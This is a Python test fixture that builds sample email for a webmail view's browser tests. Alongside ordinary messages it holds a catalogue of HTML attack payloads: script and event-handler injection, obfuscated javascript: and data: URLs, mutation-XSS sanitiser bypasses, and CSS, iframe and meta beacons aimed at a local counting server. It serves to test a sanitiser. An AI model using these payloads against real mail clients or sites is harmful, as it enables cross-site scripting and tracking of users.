"""The mail the web view's browser tests (test_mail_browser.py) read: ordinary conversations,
HTML newsletters, attachments, and HTML attack messages whose every remote fetch points at a
counting HTTP server (BEACON, e.g. http://127.0.0.5:PORT).

Each message is a dict: key (a short name the node scripts use), mid (Message-ID without <>),
subject, raw (CRLF bytes) and, for attacks, what (one line on the trick).
"""

from __future__ import annotations

import base64
import email.utils
import re

ALICE = "alice@example.org"
BOB = "bob@example.org"

# Dates: 2026 for the ordinary mail (the tests were written in December 2026: every Date is in the past
# of the test's clock), December 2025 for the attacks (the end of the Inbox: its second page), except the
# header attack, which is the newest message (the Inbox's first row).
_PEOPLE = {
    "carol": ("Carol Jones", "carol@remote.test"),
    "dave": ("Dave Miller", "dave@remote.test"),
    "erin": ("Erin Shop", "news@shop.test"),
    "frank": ("Frank Ocean", "frank@sea.test"),
    "grace": ("Grace Hopper", "grace@navy.test"),
    "heidi": ("Heidi Klum", "heidi@remote.test"),
}


def _crlf(data: bytes) -> bytes:
    """Every line ending CRLF (SMTP refuses bare LF)."""
    return re.sub(rb"\r?\n", b"\r\n", data)


def _date(month: int, day: int, hour: int = 10, minute: int = 0, year: int = 2026) -> str:
    import datetime
    d = datetime.datetime(year, month, day, hour, minute, tzinfo=datetime.timezone.utc)
    return email.utils.format_datetime(d)


def _headers(who: str, subject: str, mid: str, date: str, to: str = ALICE, extra: str = "") -> str:
    name, addr = _PEOPLE[who]
    return (f"From: {name} <{addr}>\r\nTo: <{to}>\r\nSubject: {subject}\r\nMessage-ID: <{mid}>\r\n"
            f"Date: {date}\r\nMIME-Version: 1.0\r\n{extra}")


def _text(who, subject, mid, date, body, to=ALICE, extra=""):
    return (_headers(who, subject, mid, date, to, extra)
            + "Content-Type: text/plain; charset=utf-8\r\n\r\n" + body.replace("\n", "\r\n")).encode()


def _html(who, subject, mid, date, html, text="(HTML message)", to=ALICE, extra="", alternative=True):
    if not alternative:
        return (_headers(who, subject, mid, date, to, extra)
                + "Content-Type: text/html; charset=utf-8\r\n\r\n" + html.replace("\n", "\r\n")).encode()
    b = "=_alt_" + mid.split("@")[0]
    return (_headers(who, subject, mid, date, to, extra)
            + f'Content-Type: multipart/alternative; boundary="{b}"\r\n\r\n'
            + f"--{b}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n"
            + f"--{b}\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
            + html.replace("\n", "\r\n") + f"\r\n--{b}--\r\n").encode()


def _with_attachment(who, subject, mid, date, body, filename, payload: bytes, ctype="application/pdf", extra=""):
    b = "=_mix_" + mid.split("@")[0]
    data = base64.encodebytes(payload).decode().replace("\n", "\r\n")
    return (_headers(who, subject, mid, date, extra=extra)
            + f'Content-Type: multipart/mixed; boundary="{b}"\r\n\r\n'
            + f"--{b}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n"
            + f'--{b}\r\nContent-Type: {ctype}; name="{filename}"\r\n'
              f'Content-Disposition: attachment; filename="{filename}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
            + data + f"\r\n--{b}--\r\n").encode()


def _reply_headers(parent_mids: list[str]) -> str:
    refs = " ".join(f"<{m}>" for m in parent_mids)
    return f"In-Reply-To: <{parent_mids[-1]}>\r\nReferences: {refs}\r\n"


def ordinary() -> list[dict]:
    """About 40 messages: five conversations of 2-4 messages, HTML ones, attachments, singles."""
    out: list[dict] = []

    def add(key, mid, subject, raw, **kw):
        out.append({"key": key, "mid": mid, "subject": subject, "raw": _crlf(raw), **kw})

    # conversation: quarterly report (carol, dave, carol), the second with an attachment
    add("report1", "report1@remote.test", "Quarterly report",
        _text("carol", "Quarterly report", "report1@remote.test", _date(3, 2),
              "Hi Alice,\nthe quarterly report draft is ready for review.\nCarol\n"))
    add("report2", "report2@remote.test", "Re: Quarterly report",
        _with_attachment("dave", "Re: Quarterly report", "report2@remote.test", _date(3, 3),
                         "Numbers attached.\n> the quarterly report draft is ready\n", "numbers.pdf",
                         b"%PDF-1.4\n% numbers\n" * 20, extra=_reply_headers(["report1@remote.test"])))
    add("report3", "report3@remote.test", "Re: Quarterly report",
        _text("carol", "Re: Quarterly report", "report3@remote.test", _date(3, 5),
              "Thanks Dave, merged.\n\n> Numbers attached.\n", extra=_reply_headers(["report1@remote.test", "report2@remote.test"])))
    # conversation: trip to Lisbon (frank, grace)
    add("trip1", "trip1@sea.test", "Trip to Lisbon",
        _text("frank", "Trip to Lisbon", "trip1@sea.test", _date(5, 10), "Flights are booked for June.\n"))
    add("trip2", "trip2@navy.test", "Re: Trip to Lisbon",
        _text("grace", "Re: Trip to Lisbon", "trip2@navy.test", _date(5, 11), "Great, I will bring the maps.\n",
              extra=_reply_headers(["trip1@sea.test"])))
    # conversation: budget 2026 (4 messages, carol/dave/heidi/carol), one HTML
    prev: list[str] = []
    for i, who in enumerate(["carol", "dave", "heidi", "carol"], 1):
        mid = f"budget{i}@remote.test"
        subj = "Budget 2026" if i == 1 else "Re: Budget 2026"
        extra = _reply_headers(prev) if prev else ""
        if i == 3:
            raw = _html(who, subj, mid, _date(6, 1 + i), "<p>The <b>budget</b> table:</p><table border=1><tr><td>Q1</td><td>100</td></tr></table>",
                        text="The budget table: Q1 100", extra=extra)
        else:
            raw = _text(who, subj, mid, _date(6, 1 + i), f"Budget message {i}.\n", extra=extra)
        add(f"budget{i}", mid, subj, raw)
        prev.append(mid)
    # conversation: the invoice (erin, with an attachment, then a reminder)
    add("invoice1", "invoice1@shop.test", "Your invoice 4711",
        _with_attachment("erin", "Your invoice 4711", "invoice1@shop.test", _date(8, 14),
                         "Please find the invoice attached.\n", "invoice-4711.pdf", b"%PDF-1.4\n% invoice\n" * 30))
    add("invoice2", "invoice2@shop.test", "Re: Your invoice 4711",
        _text("erin", "Re: Your invoice 4711", "invoice2@shop.test", _date(9, 1), "A friendly reminder.\n",
              extra=_reply_headers(["invoice1@shop.test"])))
    # conversation: garden party (heidi, frank)
    add("party1", "party1@remote.test", "Garden party",
        _text("heidi", "Garden party", "party1@remote.test", _date(7, 20), "Saturday at four, bring a salad.\n"))
    add("party2", "party2@sea.test", "Re: Garden party",
        _text("frank", "Re: Garden party", "party2@sea.test", _date(7, 21), "Count me in.\n",
              extra=_reply_headers(["party1@remote.test"])))
    # HTML newsletters (erin)
    for i in range(1, 5):
        mid = f"news{i}@shop.test"
        add(f"news{i}", mid, f"Shop newsletter {i}",
            _html("erin", f"Shop newsletter {i}", mid, _date(9, 5 + i),
                  f"<h1>Newsletter {i}</h1><p style=\"color:#336\">Autumn <i>sale</i> number {i}.</p>"
                  f"<p><a href=\"https://shop.test/sale/{i}\">See the sale</a></p>",
                  text=f"Newsletter {i}: autumn sale number {i}."))
    # singles, spread over the year, from everyone
    whos = list(_PEOPLE)
    for i in range(1, 23):
        who = whos[i % len(whos)]
        month = 1 + (i * 5) % 11
        mid = f"single{i:02d}@{_PEOPLE[who][1].split('@')[1]}"
        subject = f"Note {i:02d} from {who}"
        if i % 7 == 0:
            raw = _with_attachment(who, subject, mid, _date(month, 1 + i % 27, 9),
                                   f"Single message {i} with a photo.\n", f"photo{i}.png", b"\x89PNG\r\n\x1a\n" + bytes(200), "image/png")
        else:
            raw = _text(who, subject, mid, _date(month, 1 + i % 27, 9), f"Single message {i}: nothing to see here.\n"
                        + ("Visit https://example.com/page for more.\n" if i == 3 else ""))
        add(f"single{i:02d}", mid, subject, raw)
    return out


def attacks(beacon: str) -> list[dict]:
    """HTML attack messages; every remote thing points at beacon + /NAME."""
    B = beacon
    items: list[tuple[str, str, str]] = [
        ("script", "script elements, inline and remote",
         f"<p>hi</p><script>window.__pwned='script'</script><script src=\"{B}/script.js\"></script>"),
        ("onerror", "event handler on a broken image",
         "<img src=x onerror=\"window.__pwned='onerror'\"><img src=\"data:image/png;base64,AAAA\" onload=\"window.__pwned='onload'\">"),
        ("handlers", "event handlers on body, details, marquee, div",
         "<body onload=\"window.__pwned='body'\"><details open ontoggle=\"window.__pwned='toggle'\"><summary>s</summary>x</details>"
         "<div onmouseover=\"window.__pwned='mouse'\" style=\"width:100%;height:200px\">hover</div>"
         "<marquee onstart=\"window.__pwned='marquee'\">m</marquee></body>"),
        ("jsurl", "javascript: URLs with obfuscation",
         "<a id=a1 href=\"javascript:window.__pwned='js1'\">one</a> <a href=\" JaVaScRiPt:window.__pwned='js2'\">two</a> "
         "<a href=\"java&#x09;script:window.__pwned='js3'\">three</a> <a href=\"&#106;avascript:window.__pwned='js4'\">four</a>"
         "<a href=\"vbscript:msgbox(1)\">five</a>"),
        ("dataurl", "data: URLs (HTML document, SVG image)",
         "<a href=\"data:text/html,<script>window.__pwned='data'</script>\">data link</a>"
         "<img src=\"data:image/svg+xml;base64," + base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='top.__pwned=1'/>").decode() + "\">"
         "<iframe src=\"data:text/html,<script>parent.__pwned='dataframe'</script>\"></iframe>"),
        ("svg", "SVG with script, onload, foreignObject and a remote image",
         f"<svg onload=\"window.__pwned='svg'\"><script>window.__pwned='svgscript'</script>"
         f"<image href=\"{B}/svg-image.png\"/><foreignObject><img src=x onerror=\"window.__pwned='fo'\"></foreignObject></svg>"),
        ("cssurl", "CSS url() in style attributes, plain and escaped",
         f"<div style=\"background:url({B}/css-url.png);height:20px\">bg</div>"
         f"<div style=\"background-image:u\\72l({B}/css-escape.png)\">esc</div>"
         f"<div style=\"list-style:url(&quot;{B}/css-entity.png&quot;)\">ent</div>"
         f"<span style=\"cursor:url({B}/cursor.cur),auto;border-image:url({B}/border.png) 30\">c</span>"),
        ("cssimport", "@import and url() beacons in style elements",
         f"<style>@import url({B}/import.css); @import '{B}/import2.css';</style>"
         f"<style>p {{ background: url('{B}/style-url.png') }} @media all {{ div {{ background: url({B}/media.png) }} }}"
         f" @font-face {{ font-family: x; src: url({B}/font.woff) }} b {{ background-image: image-set('{B}/imageset.png' 1x) }}</style>"
         "<p>styled</p><div>d</div><b style=\"font-family:x\">b</b>"),
        ("meta", "meta refresh and a meta CSP override",
         f"<html><head><meta http-equiv=\"refresh\" content=\"0;url={B}/refresh\">"
         "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\"></head><body>"
         f"<meta http-equiv=\"refresh\" content=\"1; URL='{B}/refresh2'\">body</body></html>"),
        ("base", "base href making relative URLs remote",
         f"<base href=\"{B}/base/\"><img src=\"relative.png\"><a href=\"rel.html\">rel</a><div style=\"background:url(bg.png)\">x</div>"),
        ("form", "forms, formaction, autofocus",
         f"<form action=\"{B}/form\" method=post><input name=q autofocus onfocus=\"window.__pwned='focus'\">"
         f"<button formaction=\"{B}/formaction\">go</button><input type=image src=\"{B}/input-image.png\"></form>"),
        ("iframes", "nested iframes, srcdoc, remote frames",
         f"<iframe src=\"{B}/iframe.html\"></iframe>"
         "<iframe srcdoc=\"<script>parent.__pwned='srcdoc'</script><iframe srcdoc=&quot;<script>top.__pwned=2</script>&quot;></iframe>\"></iframe>"
         f"<frameset><frame src=\"{B}/frame.html\"></frameset>"),
        ("objects", "object, embed, applet, video poster, audio",
         f"<object data=\"{B}/object.swf\"></object><embed src=\"{B}/embed.swf\">"
         f"<video poster=\"{B}/poster.png\" src=\"{B}/video.mp4\"></video><audio src=\"{B}/audio.mp3\" autoplay></audio>"
         f"<applet code=\"{B}/x.class\"></applet>"),
        ("links", "link elements: stylesheet, prefetch, preload, icon",
         f"<link rel=stylesheet href=\"{B}/link.css\"><link rel=prefetch href=\"{B}/prefetch\">"
         f"<link rel=preload as=image href=\"{B}/preload.png\"><link rel=icon href=\"{B}/icon.ico\"><p>links</p>"),
        ("srcset", "srcset, picture, table background, lowsrc",
         f"<img srcset=\"{B}/srcset.png 1x\"><picture><source srcset=\"{B}/source.png\"><img alt=p></picture>"
         f"<table background=\"{B}/table-bg.png\"><tr><td background=\"{B}/td-bg.png\">t</td></tr></table>"
         f"<img lowsrc=\"{B}/lowsrc.png\" dynsrc=\"{B}/dynsrc.png\">"),
        ("relative", "protocol-relative and odd-scheme image sources",
         "<img src=\"//127.0.0.5/protocol-relative.png\"><img src=\"  http://127.0.0.5/\">"
         "<img src=\"ftp://127.0.0.5/ftp.png\"><img src=\"blob:null/x\">"),
        ("mxss-noscript", "mutation XSS through noscript",
         "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned='mxss1'>\"></noscript>"),
        ("mxss-svg", "mutation XSS through svg/style namespace confusion",
         "<svg></p><style><a id=\"</style><img src=1 onerror=window.__pwned='mxss2'>\"></svg>"
         "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=window.__pwned='mxss3'&gt;\">"),
        ("mxss-style", "style text trying to close its element; comments; CDATA",
         "<style>p{color:red}</sty</style><p>x</p><style>a{}</style ><img src=x onerror=window.__pwned='mxss4'>"
         "<!--><img src=x onerror=window.__pwned='mxss5'>--><![CDATA[<img src=x onerror=window.__pwned='mxss6'>]]>"
         "<style>div{font-family:'</style><img src=x onerror=window.__pwned=7>'}</style>"),
        ("mxss-table", "table foster parenting and select/option/textarea/xmp raw text",
         "<table><a title=\"<img src=x onerror=window.__pwned='t1'>\"><td>c</td></table>"
         "<select><option><style></option></select><img src=x onerror=window.__pwned='t2'></style>"
         "<textarea></textarea><img src=x onerror=window.__pwned='t3'></textarea>"
         "<xmp><img src=x onerror=window.__pwned='t4'></xmp><template><script>window.__pwned='t5'</script></template>"),
        ("attrs", "attribute quoting tricks and entity-encoded handlers",
         "<img src=\"x\" alt=\"a\" title='\"onerror=\"window.__pwned=1' onerror=&#119;indow.__pwned=&#39;ent&#39;>"
         "<div title=\"&quot; onmouseover=&quot;window.__pwned=2\" style=\"color:red\" ping=\"/ping\">q</div>"
         "<a href=\"https://shop.test/ok\" ping=\"" + B + "/ping\">ok link</a>"),
        ("behaviors", "IE behaviors, -moz-binding, expression()",
         f"<div style=\"behavior:url({B}/x.htc);-moz-binding:url({B}/xbl.xml#x);width:expression(window.__pwned=1)\">b</div>"),
        ("remote-image", "one remote image (the one \"Show them\" may load)",
         f"<p>A picture:</p><img src=\"{B}/remote-image.png\" alt=\"remote\" width=10 height=10><p>end</p>"),
        ("html-only", "a text/html message (no text part) with a script in its head",
         "<html><head><title>t</title><script>window.__pwned='head'</script></head>"
         f"<body onload=\"window.__pwned='bodyonly'\"><p>html only</p><img src=\"{B}/html-only.png\"></body></html>"),
    ]
    out = []
    for i, (key, what, html) in enumerate(items, 1):
        mid = f"attack-{key}@evil.test"
        subject = f"Hostile {i:02d} {key}"
        raw = _html("heidi", subject, mid, _date(12, 1 + i % 28, 8, i, year=2025), html,
                    text=f"attack {key}", alternative=(key != "html-only"))
        out.append({"key": key, "mid": mid, "subject": subject, "raw": _crlf(raw), "what": what})
    # headers that look like markup: shown as text in the list and the conversation
    mid = "attack-headers@evil.test"
    subject = "<img src=x onerror=window.__pwned='subject'> Hostile headers"
    raw = (f"From: \"<script>window.__pwned='from'</script>\" <evil@evil.test>\r\nTo: <{ALICE}>\r\n"
           f"Subject: {subject}\r\nMessage-ID: <{mid}>\r\nDate: {_date(11, 29, 8)}\r\nMIME-Version: 1.0\r\n"
           "Content-Type: text/plain; charset=utf-8\r\n\r\n<script>window.__pwned='text'</script>\r\n"
           "javascript:window.__pwned='textlink'\r\nhttp://127.0.0.1/\"onmouseover=\"window.__pwned=1\r\n").encode()
    out.append({"key": "headers", "mid": mid, "subject": subject, "raw": _crlf(raw), "what": "markup in From, Subject, text body"})
    return out


def bob_messages() -> list[dict]:
    mid = "bob-private@remote.test"
    return [{"key": "bob1", "mid": mid, "subject": "Bob's private note",
             "raw": _crlf(_text("grace", "Bob's private note", mid, _date(10, 3), "For Bob only.\n", to=BOB))}]


def robot_messages(count: int, tag: str, sender: tuple[str, str] = ("Build Robot", "robot@builds.test")) -> list[dict]:
    """`count` build reports from one sender (what a filter test sends through SMTP): unique
    Message-IDs and subjects (`tag` tells one run from another), no threading headers, dated now
    (so that any of them left in the Inbox would be on its first page)."""
    name, addr = sender
    now = email.utils.formatdate(usegmt=True)
    out = []
    for i in range(1, count + 1):
        mid = f"build-{tag}-{i:02d}@builds.test"
        subject = f"Build {tag} #{i:02d} passed"
        raw = (f"From: {name} <{addr}>\r\nTo: <{ALICE}>\r\nSubject: {subject}\r\nMessage-ID: <{mid}>\r\n"
               f"Date: {now}\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
               f"Build {i} of run {tag}: all tests passed.\r\n").encode()
        out.append({"key": f"build{i:02d}", "mid": mid, "subject": subject, "raw": raw})
    return out


def spam_training() -> tuple[list[bytes], list[bytes]]:
    """(spam, ham): the few messages `mailkeep spam train` learns before the web view's server starts,
    so that its mail is scored (and carries X-Mailkeep-Signature, which `!` retrains from). Nothing in
    them is shared with the fixture's mail but the common header fields, so the fixture scores near
    0.5 and well under reject_score (nothing goes to Junk on arrival)."""
    spam = [_crlf((f"From: Prize Desk <winner{i}@lottery.test>\nTo: <{ALICE}>\nSubject: You won the lottery {i}\n"
                   f"Message-ID: <prize{i}@lottery.test>\n\nClaim your cash prize now! Send your bank details. "
                   "Free money, act now, winner.\n").encode()) for i in range(1, 4)]
    ham = [_crlf((f"From: Colleague <colleague{i}@work.test>\nTo: <{ALICE}>\nSubject: Meeting notes {i}\n"
                  f"Message-ID: <notes{i}@work.test>\n\nHere are the notes from our meeting about the project "
                  "schedule.\n").encode()) for i in range(1, 4)]
    return spam, ham
